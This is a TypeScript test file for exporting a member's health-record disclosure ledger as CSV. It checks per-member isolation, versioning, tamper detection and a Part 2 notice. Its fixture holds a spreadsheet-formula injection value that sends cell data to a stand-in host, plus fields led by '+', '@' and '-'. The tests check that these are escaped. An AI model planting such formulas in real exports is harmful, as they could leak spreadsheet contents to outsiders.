import { readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { disclosureLedgerDocument } from '../../../src/main/documents/disclosure-ledger.tsx'
import type { PersonId } from '../../../src/shared/ids.ts'
import { part2Statement2 } from '../../../src/shared/record/part2-statements.ts'
import type { Part2 } from '../../../src/shared/session/vocabulary.ts'
import { parseCsv } from '../../support/parse-csv.ts'
import { createOpenWorld, groupDraft, memberDraft, valueOf, type World } from '../support/world.ts'

let world: World
let ana: PersonId
let ben: PersonId

const draft = {
  disclosedOn: '2026-11-20',
  what: '=HYPERLINK("https://example.invalid/?"&A1)',
  recipient: 'Riverbend, "Primary" Care; 4 Elm Street',
  purpose: '+care',
  consentReference: '@0417-3',
}

async function addGroup(name: string, part2: Part2, member: string): Promise<PersonId> {
  const { groupId } = await world.get('roster.create-group', { ...groupDraft, name, part2 })
  const made = await world.get('roster.create-member', {
    groupId,
    draft: { ...memberDraft, preferredName: member, chartId: `-${member}-7` },
  })
  return made.personId
}

beforeAll(async () => {
  world = await createOpenWorld()
  ana = await addGroup('Evening Circle', 'none', 'Anouk')
  ben = await addGroup('Morning Circle', 'unsure', 'Bertil')
  const enter = (personId: PersonId, changed: Partial<typeof draft> = {}) =>
    world.get('disclosures.enter', { personId, draft: { ...draft, ...changed } })
  const { disclosureId } = await enter(ana)
  await enter(ben, { disclosedOn: '2026-11-21', what: 'The record of October' })
  await world.get('disclosures.correct', { disclosureId, draft: { ...draft, what: 'Attendance' } })
})
afterAll(() => world.close())

async function readTable(personId: PersonId | null) {
  const file = await world.get('export.disclosure-table', { personId })
  const path = join(world.paths.exportsDir, file.fileName)
  const text = readFileSync(path, 'utf8')
  expect(text.charCodeAt(0)).toBe(0xfeff)
  const [headings = [], ...rows] = parseCsv(text.slice(1))
  const lines = rows.map((row) => Object.fromEntries(headings.map((heading, at) => [heading, row[at]])))
  return { file, path, text, lines }
}

it('one member’s ledger as a table holds what was entered about them, and nobody else', async () => {
  const { file, path, text, lines } = await readTable(ana)
  expect(file).toMatchObject({ kind: 'disclosure-table', sessionId: null, personId: ana, version: 1 })
  expect(file.fileName).toMatch(/^2026-11-24-[0-9A-Z]{4}-disclosures\.csv$/)
  expect(statSync(path).mode & 0o777).toBe(0o600)
  const common = {
    Date: '2026-11-20',
    'Chart id': "'-Anouk-7",
    Member: 'Anouk',
    Recipient: 'Riverbend, "Primary" Care; 4 Elm Street',
    Purpose: "'+care",
    Consent: "'@0417-3",
    Entered: expect.stringMatching(/^2026-11-24T\d\d:\d\d:\d\d-06:00$/),
    'Entered by': 'Dana Reyes',
    Notice: '',
  }
  expect(lines).toEqual([
    { ...common, 'No.': '2', What: 'Attendance', 'Corrects no.': '1', 'Corrected by no.': '' },
    {
      ...common,
      'No.': '1',
      What: '\'=HYPERLINK("https://example.invalid/?"&A1)',
      'Corrects no.': '',
      'Corrected by no.': '2',
    },
  ])
  for (const other of ['Bertil', 'October', ben, 'Circle']) expect(text).not.toContain(other)
})

it('the whole ledger names everyone, and each of its lines carries the notice of Part 2', async () => {
  const { lines } = await readTable(null)
  expect(lines.map((line) => [line['Member'], line['Notice']])).toEqual([
    ['Bertil', part2Statement2],
    ['Anouk', part2Statement2],
    ['Anouk', part2Statement2],
  ])
})

it('a ledger keeps its code; the same content keeps its version, and another one has the next', async () => {
  const first = (await readTable(ben)).file
  const again = (await readTable(ben)).file
  expect([again.code, again.version]).toEqual([first.code, first.version])
  expect(again.fileName).toBe(first.fileName.replace('.csv', '-2.csv'))
  await world.get('disclosures.enter', { personId: ben, draft })
  const next = (await readTable(ben)).file
  expect([next.code, next.version]).toEqual([first.code, 2])
  expect((await readTable(null)).file.code).not.toBe(first.code)
  expect(valueOf(await world.core.run('export.disclosure-facts', { personId: ben })).stamp).toMatchObject({
    kind: 'disclosure-ledger',
    sessionId: null,
    personId: ben,
    version: 1,
  })
})

async function identify(bytes: Uint8Array) {
  return valueOf(await world.core.run('export.identify', { bytes }))
}

it('a written table is told from one that was changed', async () => {
  const { file, path } = await readTable(ana)
  const bytes = readFileSync(path)
  expect(await identify(bytes)).toEqual({ kind: 'unaltered', file, currentVersion: null })
  expect(await identify(Buffer.concat([bytes, Buffer.from('x')]))).toMatchObject({ kind: 'unknown' })
})

it('what a member’s groups are under decides on the notice: any of them, then or now, and none at all', async () => {
  const part2Of = async (personId: PersonId | null) =>
    valueOf(await world.core.run('export.disclosure-facts', { personId })).facts.part2
  expect([await part2Of(ana), await part2Of(ben), await part2Of(null)]).toEqual(['none', 'unsure', 'unsure'])
  const { groups } = await world.get('roster.read', {})
  const groupOf = (personId: PersonId) =>
    groups.find(({ memberIds }) => memberIds.includes(personId))?.id ?? ''
  await world.get('roster.enrol', { groupId: groupOf(ben), personId: ana })
  expect(await part2Of(ana)).toBe('unsure')
  await world.get('roster.withdraw', { groupId: groupOf(ben), personId: ana })
  expect(await part2Of(ana)).toBe('none')
  // Nobody knows what they are under.
  await world.get('roster.withdraw', { groupId: groupOf(ana), personId: ana })
  expect(await part2Of(ana)).toBe('unsure')
  await world.get('roster.enrol', { groupId: (await addedGroup()).groupId, personId: ana })
  expect(await part2Of(ana)).toBe('part2')
})

function addedGroup() {
  return world.get('roster.create-group', { ...groupDraft, name: 'Third Circle', part2: 'part2' })
}

it('the document of one member holds nobody else', async () => {
  const { facts, stamp } = valueOf(await world.core.run('export.disclosure-facts', { personId: ana }))
  const { title, bodyHtml, footerHtml } = disclosureLedgerDocument(facts, stamp)
  const told = [JSON.stringify(facts), title, bodyHtml, footerHtml, stamp.fileName].join(' ')
  expect(told).toContain('Anouk')
  for (const other of ['Bertil', 'October', ben, 'Circle']) expect(told).not.toContain(other)
  expect(await world.core.run('export.disclosure-facts', { personId: ben })).toMatchObject({ ok: true })
})

it('whoever is not on file has no ledger', async () => {
  const answer = await world.ask('export.disclosure-table', { personId: crypto.randomUUID() })
  expect(answer).toEqual({ ok: false, error: { code: 'not-found' } })
})
